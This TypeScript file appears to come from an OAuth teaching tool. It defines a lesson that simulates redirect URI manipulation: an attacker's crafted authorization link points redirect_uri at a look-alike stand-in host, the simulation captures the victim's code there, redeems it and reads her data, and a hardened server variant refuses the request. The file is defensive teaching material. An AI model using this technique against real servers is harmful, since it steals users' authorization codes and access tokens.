import { randomToken } from '@/protocol/base64url.ts'
import { exchange } from '@/protocol/http-exchange.ts'
import { computeS256Challenge, generateCodeVerifier } from '@/protocol/pkce.ts'
import { traceEntry } from '@/protocol/trace.ts'
import { authorizationCodeSteps } from '../../authorization-code/steps.ts'
import { browseOperation, browserSteps } from '../../browser-steps.ts'
import { jsonObject, requireValue } from '../../client/recorder.ts'
import { asOf, discoveryOperation } from '../../common-steps.ts'
import { FlowError } from '../../flow-error.ts'
import { flowKit, type Operation, type Operations } from '../../flow-kit.ts'
import type { AuthorizingContext } from '../../redirect-steps.ts'
import type { StepMeta } from '../../step.ts'
import { attackerReadsApi, attackerRedeems, short, stoppedByServer } from '../attacker.ts'
import { attackerNote, attackerPage, withAttackerSite, type AttackerSite } from '../attacker-site.ts'

/**
 * Lesson: redirect URI manipulation (RFC 9700 §4.1). MovieMatch registered its bare site address
 * as its redirect URI. A server that matches redirect URIs by prefix then also accepts
 * `https://moviematch.example.attacker.example/…` — a host the attacker owns — so a crafted link
 * sends Alice's code there. With exact matching the server shows an error page and sends the
 * browser nowhere.
 */
interface Ctx extends AuthorizingContext {
  readonly attackerVerifier?: string | undefined
  readonly stolenCode?: string | undefined
  readonly attackerToken?: string | undefined
}

/** Where the attacker wants the code: it begins with MovieMatch's registered URI, on another host. */
export const attackerRedirectUri = 'https://moviematch.example.attacker.example/catch'
const attackerOrigin = new URL(attackerRedirectUri).origin
/** What the attacker's link asks for: Alice's friends and their movies. */
const attackerScope = 'friends.read movies.read'

const rule = {
  quote:
    'When comparing client redirection URIs against pre-registered URIs, authorization servers MUST utilize exact string matching except for port numbers in localhost redirection URIs of native apps. … the authorization server … MUST NOT automatically redirect the user-agent to the invalid redirection URI.',
  refs: ['rfc9700-2.1', 'rfc9700-4.1.3', 'rfc6749-4.1.2.1'],
} as const

export const redirectUriSteps = {
  discovery: authorizationCodeSteps.discovery,
  register: {
    title: 'MovieMatch registers its site as redirect URI',
    from: 'client',
    to: 'as',
    channel: 'back',
    explanation:
      'MovieMatch, a single-page app, registers with the server (dynamic client registration) and gives its bare site address, https://moviematch.example, as its redirect URI — single-page apps often come back to their start page. It is a public client: it has no secret.',
    refs: ['rfc7591-3', 'rfc7591-2', 'rfc6749-3.1.2.2'],
  },
  craftLink: {
    title: 'The attacker crafts a login link for MovieMatch',
    from: 'attacker',
    to: 'browser',
    channel: 'front',
    label: 'crafted link',
    explanation:
      'The attacker builds an authorization request with MovieMatch’s public client_id, but redirect_uri https://moviematch.example.attacker.example/catch. It begins with the registered string — yet a host name ends at the first “/”, so this is a subdomain of attacker.example, a domain the attacker owns. The attacker even adds a PKCE challenge of their own: PKCE cannot help when the attacker starts the flow. Alice gets the link in an email (“See what your friends are watching”) and clicks it.',
    refs: ['rfc9700-4.1.1', 'rfc6749-4.1.1'],
  },
  authorize: {
    ...browserSteps.authorize,
    explanation:
      'The link opens the real Friendly Social: nothing looks wrong. The server checks the client_id (MovieMatch, registered) and compares redirect_uri with the URIs MovieMatch registered before anything else.',
    variantNotes: {
      vulnerable:
        'Vulnerable: this server is set to match redirect URIs by prefix (the misbehave setting “Match redirect URIs by prefix”). The attacker’s URI begins with https://moviematch.example, so it passes, and the server shows its login page.',
      hardened:
        'Hardened: exact string matching. The attacker’s URI is not one MovieMatch registered, so the server refuses with invalid_request — on an error page of its own. It must not redirect to a URI it cannot trust, not even with an error, or the attacker would learn about it.',
    },
    refs: ['rfc9700-2.1', 'rfc9700-4.1.3', 'rfc6749-4.1.2.1'],
  },
  deliver: {
    title: 'The browser takes the code to the attacker’s site',
    from: 'browser',
    to: 'attacker',
    channel: 'front',
    explanation:
      'Alice signed in and allowed MovieMatch, as she would have anyway. The server redirected her browser with the code to the redirect_uri of the request — the attacker’s host. The attacker’s server reads the code from the URL and shows a harmless page.',
    refs: ['rfc9700-4.1.1', 'rfc6749-4.1.2'],
  },
  attackerRedeems: {
    title: 'The attacker redeems the code',
    from: 'attacker',
    to: 'as',
    channel: 'back',
    explanation:
      'MovieMatch is a public client, so redeeming the code needs no secret: the attacker sends the code, MovieMatch’s client_id, the same redirect_uri and the PKCE verifier that belongs to their own challenge. For the server, this is an ordinary token request.',
    refs: ['rfc6749-4.1.3', 'rfc7636-4.5'],
  },
  attackerUsesToken: {
    title: 'The attacker reads Alice’s data',
    from: 'attacker',
    to: 'rs',
    channel: 'back',
    explanation:
      'With an access token issued for Alice to MovieMatch, the attacker reads her friends’ movies. Alice never saw anything unusual: she signed in on the real server, for the real app.',
    refs: ['rfc6750-2.1'],
  },
} as const satisfies Record<string, StepMeta>

const S = redirectUriSteps

/** The attacker's site: it keeps the query of every request it receives — the code among it. */
function catchingSite(received: URL[]): AttackerSite {
  return (request) => {
    const url = new URL(request.url)
    received.push(url)
    const code = url.searchParams.get('code')
    return Promise.resolve(
      attackerPage('Loading…', [
        attackerNote(
          code === null
            ? `The attacker’s site logged a visit to ${url.pathname}`
            : `The attacker’s site logged code=${short(code)} from the URL`,
        ),
      ]),
    )
  }
}

/**
 * The browser through the front channel; an error page at the authorization endpoint is the
 * server's defence working, recorded as the verdict rather than a failed step.
 */
function browse(): Operation<Ctx> {
  const inner = browseOperation<Ctx>({
    redirectUri: () => attackerRedirectUri,
    steps: { authorize: S.authorize },
  })
  return {
    ...inner,
    async run(ctx, ports) {
      const result = await inner.run(ctx, ports)
      const sent = result.exchange
      if (result.failure === undefined || sent?.response === undefined) return result
      if (!new URL(sent.request.url).pathname.endsWith('/authorize')) return result
      const verdict = stoppedByServer(
        { exchange: sent, status: sent.response.status, body: undefined },
        'The server compared redirect_uri exactly, showed an error page and redirected nowhere: no code was issued, the attacker’s link is dead.',
        rule,
      )
      if (verdict === undefined) return result
      const { failure: _defence, ...page } = result
      return { ...page, verdict, outcome: 'refused' }
    },
  }
}

const operations = {
  discovery: discoveryOperation<Ctx>(S.discovery, ['authorization_endpoint', 'token_endpoint']),
  register: {
    meta: S.register,
    async run(ctx, ports) {
      const endpoint = requireValue(asOf(ctx).registration_endpoint, 'The registration endpoint')
      const redirectUri = requireValue(ctx.config.redirectUri, 'The redirect URI')
      const result = await exchange(
        ports.transport,
        new Request(endpoint, {
          method: 'POST',
          headers: { 'content-type': 'application/json', accept: 'application/json' },
          body: JSON.stringify({
            client_name: 'MovieMatch',
            redirect_uris: [redirectUri],
            token_endpoint_auth_method: 'none',
            grant_types: ['authorization_code'],
          }),
        }),
      )
      const body = jsonObject(result.exchange.response?.body)
      const clientId = body?.['client_id']
      if (result.response.status !== 201 || typeof clientId !== 'string')
        throw new FlowError(
          {
            title: `The registration endpoint answered ${result.response.status}`,
            message: `MovieMatch could not register: ${JSON.stringify(body?.['error_description'] ?? body?.['error'] ?? 'no client_id came back')}.`,
            refs: ['rfc7591-3.2.2'],
          },
          result.exchange,
        )
      return {
        exchange: result.exchange,
        checks: [
          traceEntry('pass', 'registered', `MovieMatch is client ${clientId}, redirect URI ${redirectUri}`, [
            'rfc7591-3.2.1',
          ]),
        ],
        values: [
          { name: 'client_id', value: clientId, note: 'Public: it appears in every authorization link.' },
          { name: 'redirect_uri', value: redirectUri, note: 'Registered: no path, no trailing slash.' },
        ],
        patch: { config: { ...ctx.config, clientId } },
      }
    },
  },
  craftLink: {
    meta: S.craftLink,
    async run(ctx, ports) {
      const url = new URL(requireValue(asOf(ctx).authorization_endpoint, 'The authorization endpoint'))
      const verifier = generateCodeVerifier(ports.random)
      url.searchParams.set('response_type', 'code')
      url.searchParams.set('client_id', ctx.config.clientId)
      url.searchParams.set('redirect_uri', attackerRedirectUri)
      url.searchParams.set('scope', attackerScope)
      url.searchParams.set('state', randomToken(16, ports.random))
      url.searchParams.set('code_challenge', await computeS256Challenge(verifier))
      url.searchParams.set('code_challenge_method', 'S256')
      return {
        redirectTo: url.href,
        values: [
          { name: 'authorization URL', value: url.href, note: 'Built by the attacker, clicked by Alice.' },
          {
            name: 'redirect_uri',
            value: attackerRedirectUri,
            note: `Begins with ${ctx.config.redirectUri ?? 'the registered URI'}, but the host is ${new URL(attackerRedirectUri).host}.`,
          },
          { name: 'code_verifier', value: verifier, note: 'The attacker’s own, kept by the attacker.' },
        ],
        screens: [
          {
            kind: 'browser',
            lane: 'browser',
            url: url.href,
            note: 'Alice clicked a link in an email. Press Next and her browser loads it.',
          },
        ],
        patch: { attackerVerifier: verifier, pending: { method: 'GET', url: url.href } },
      }
    },
  },
  browse: browse(),
  deliver: {
    meta: S.deliver,
    async run(ctx, ports) {
      const received: URL[] = []
      const routed = withAttackerSite(ports, attackerOrigin, catchingSite(received))
      const url = requireValue(ctx.callbackUrl, 'The redirect')
      const visit = await routed.userAgent.navigate({ method: 'GET', url })
      const code = requireValue(received[0]?.searchParams.get('code') ?? undefined, 'The code')
      return {
        ...(visit.exchange === undefined ? {} : { exchange: visit.exchange }),
        screens: [
          {
            kind: 'browser',
            lane: 'browser',
            url,
            note: 'Alice’s browser is on the attacker’s site, with her code in the address bar.',
          },
        ],
        values: [{ name: 'code', value: code, note: 'Alice’s authorization code, in the attacker’s log.' }],
        patch: { stolenCode: code },
      }
    },
  },
  attackerRedeems: {
    meta: S.attackerRedeems,
    async run(ctx, ports) {
      const { exchange, token } = await attackerRedeems(
        ports,
        requireValue(asOf(ctx).token_endpoint, 'The token endpoint'),
        {
          grant_type: 'authorization_code',
          code: requireValue(ctx.stolenCode, 'The stolen code'),
          redirect_uri: attackerRedirectUri,
          client_id: ctx.config.clientId,
          code_verifier: requireValue(ctx.attackerVerifier, 'The attacker’s verifier'),
        },
        'the code the attacker caught',
      )
      return {
        exchange,
        values: [{ name: 'access_token', value: token, note: 'Issued for Alice — to the attacker.' }],
        patch: { attackerToken: token },
      }
    },
  },
  attackerUsesToken: attackerReadsApi<Ctx>(
    S.attackerUsesToken,
    (ctx) => ctx.attackerToken,
    (ctx, token, status) => ({
      summary: `The server sent Alice’s code to ${new URL(attackerRedirectUri).host} because the address began with MovieMatch’s registered one; the attacker redeemed it and read her data (API answered ${status}).`,
      got: [
        {
          name: 'code',
          value: requireValue(ctx.stolenCode, 'The code'),
          note: 'Caught on the attacker’s site',
        },
        { name: 'access_token', value: token, note: 'Alice’s access token' },
      ],
    }),
    rule,
  ),
} satisfies Operations<Ctx>

const kit = flowKit<Ctx>(operations)

export const redirectUriMachine = kit.setup.createMachine({
  id: 'lesson-redirect-uri',
  context: ({ input }) => ({ ...input, steps: [] }),
  initial: 'ready',
  states: {
    ready: kit.gate('discovery'),
    discovery: kit.step('discovery', 'discovered'),
    discovered: kit.gate('register'),
    register: kit.step('register', 'registered'),
    registered: kit.gate('craftLink'),
    craftLink: kit.step('craftLink', 'redirecting'),
    redirecting: kit.gate('browsing'),
    browsing: kit.step('browse', {
      arrived: 'returning',
      redirect: 'redirecting',
      refused: 'complete',
      otherwise: 'awaitingUser',
    }),
    awaitingUser: kit.awaitUser('browsing'),
    returning: kit.gate('deliver'),
    deliver: kit.step('deliver', 'haveCode'),
    haveCode: kit.gate('attackerRedeems'),
    attackerRedeems: kit.step('attackerRedeems', 'attackerHasToken'),
    attackerHasToken: kit.gate('attackerUsesToken'),
    attackerUsesToken: kit.step('attackerUsesToken', 'complete'),
    complete: { type: 'final' },
    failed: { type: 'final', tags: ['failed'] },
  },
})

export const redirectUriLesson = kit.define(redirectUriMachine)
